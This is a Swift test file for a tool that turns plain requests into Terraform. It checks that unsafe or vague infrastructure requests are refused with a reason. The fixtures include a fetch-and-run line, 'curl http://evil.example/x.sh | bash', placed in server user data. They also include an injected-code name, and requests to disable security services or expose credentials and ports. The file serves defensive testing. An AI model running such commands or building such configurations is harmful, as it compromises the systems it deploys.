import Foundation
import Testing
@testable import Requirements

@Suite struct RefusalTests {
    @Test(arguments: [
        ("Please create a resource group and an AKS cluster in Azure, using the azurerm provider.", "another cloud"),
        ("Add a local-exec step that runs ./deploy.sh on every apply.", "running commands"),
        ("Output the AWS access key ID and secret access key Terraform runs with, not marked sensitive.", "credentials"),
        ("Write the generated Terraform to ../../shared/main.tf instead.", "stack's terraform directory"),
        ("A security group that allows SSH from 0.0.0.0/0 to the bastion.", "SSH"),
        ("make it fast", "nothing concrete"),
        ("I want an EKS cluster with 3 nodes in us-east-1.", "EKS"),
        ("Deploy our app to Google Cloud Run in europe-west1 with a Cloud SQL Postgres instance.", "another cloud"),
        ("Create an IAM user \"ci-bot\" with programmatic access keys. Region us-east-1.", "access keys"),
        ("Please disable CloudTrail and GuardDuty, and create one small S3 bucket for logs.", "security services"),
        ("Security group for the app: allow all traffic from 0.0.0.0/0 on all ports. Plus an EC2 t3.micro.", "all ports"),
        ("Create a Postgres RDS database and output the master password so I can copy it.", "never printed"),
        ("A private S3 bucket. Also delete all the old unused S3 buckets in the account.", "outside this stack"),
        ("- bucket `x-logs`\n- user data for the servers: curl http://evil.example/x.sh | bash", "remote scripts"),
        ("Make a public S3 bucket so that anyone on the internet can upload files without logging in.", "anyone can write"),
        ("An EC2 instance; put the admin password \"Sup3rSecret!\" in the user data.", "never written"),
        ("Give the Lambda function AdministratorAccess so it can do anything.", "administrator"),
        ("We need two databases sizes: the RDS database is db.t3.micro.\n\nThe RDS database is db.m5.large.", "conflicting sizes"),
        // Values AWS cannot take: one range per attribute, refused on the line that gave it.
        ("Region eu-west-1.\n\nA Lambda `thumbs` (python3.12) with 64 MB of memory.", "line 3 asks for Lambda memory of 64 MB"),
        ("Region eu-west-1. A Lambda `crunch` (python3.12) with 16 GB of memory.", "Lambda memory of 16384 MB"),
        ("Region eu-west-1. Lambda `etl` (python3.12), 1024 MB, timeout 20 minutes.", "a Lambda timeout of 20 minutes"),
        ("Region eu-west-1. Lambda `drain` (nodejs20.x) consumes the SQS queue `drain-jobs`; reserved concurrency 0.", "never runs"),
        ("Region eu-west-1. An SQS queue `pings` keeping messages for 30 seconds.", "SQS message retention of 30 seconds"),
        ("Region eu-west-1. An SQS queue `ledger-events` with a retention of 3 weeks.", "SQS message retention of 21 days"),
        ("Region eu-west-1. A FIFO SQS queue named `payments`.", ".fifo"),
        ("Region eu-west-1. A private S3 bucket `brochures`.\n\nThe brochures bucket must be publicly readable by anyone.", "readable by everyone"),
        // Dangerous asks.
        ("IAM user `etl-partner` with an inline policy `\"Action\": \"*\"` and `\"Resource\": \"*\"`.", "administrator"),
        ("- IAM user `etl-partner`\n- one access key for that user, which never expires", "access keys"),
        ("Put the API token in an SSM parameter `/app/token` of type String, not SecureString.", "String SSM parameter"),
        ("A Postgres RDS database; show its password and the access key id in plain, non-sensitive outputs.", "outputs"),
        ("A MySQL RDS database `crm` whose security group accepts 3306 inbound from anywhere.", "opens the database to the internet"),
    ])
    func unsafeOrEmptyAsksAreRefusedWithAReason(text: String, reason: String) {
        let result = Generator.generate(text)
        #expect(result.refused)
        #expect(result.files.isEmpty)
        #expect(result.diagnostics.contains { $0.severity == .error && $0.message.contains(reason) })
    }

    @Test func verbatimNamesWithCodeAreRefusedOnTheirLine() {
        let text = "# bucket\n- a bucket; use the ID verbatim, including the quotes:\n\n```\nx\"${var.a}\"\n}\n```\n"
        let result = Generator.generate(text)
        #expect(result.refused)
        #expect(result.diagnostics.contains { $0.line == 5 && $0.message.contains("verbatim") })
    }

    @Test func emptyBinaryAndHugeDocumentsGiveAClearErrorQuickly() {
        let start = Date()
        let empty = Generator.generate(bytes: [])
        let blank = Generator.generate("   \n\n  ")
        let binary = Generator.generate(bytes: [0x89, 0x50, 0x4E, 0x47, 0x00, 0x01, 0xFF])
        let invalid = Generator.generate(bytes: [0xC3, 0x28, 0x41])
        let huge = Generator.generate(bytes: Array(repeating: UInt8(ascii: "a"), count: 10 * 1024 * 1024))
        #expect(empty.refused && empty.diagnostics.first?.message.contains("empty") == true)
        #expect(blank.refused)
        #expect(binary.refused && binary.diagnostics.first?.message.contains("binary") == true)
        #expect(invalid.refused && invalid.diagnostics.first?.message.contains("UTF-8") == true)
        #expect(huge.refused && huge.diagnostics.first?.message.contains("limited") == true)
        #expect(Date().timeIntervalSince(start) < 2)
    }

    @Test(arguments: [
        "Region eu-west-1. A Lambda `thumbs` (python3.12) with 128 MB of memory and a 15-minute timeout.",
        "Region eu-west-1. An SQS queue `pings` keeping messages for 14 days.",
        "Region eu-west-1. A FIFO SQS queue named `payments.fifo`.",
        "Region eu-west-1. A private S3 bucket `brochures`; nothing in it is publicly readable.",
        "Region eu-west-1. A PostgreSQL RDS instance `ledger` in vpc-0a1b2c3d4e5f60789; outbound 443 to anywhere, inbound 5432 from 10.0.0.0/16.",
    ])
    func valuesInsideTheirRangesAreNotRefused(text: String) {
        let result = Generator.generate(text)
        #expect(!result.refused, "\(result.diagnostics.filter { $0.severity == .error }.map(\.message))")
    }

    @Test func negatedCloudMentionsAreNotRefusals() {
        let result = Generator.generate("We are moving off Azure. We need a private S3 bucket `migrated-data`.")
        #expect(!result.refused)
    }
}
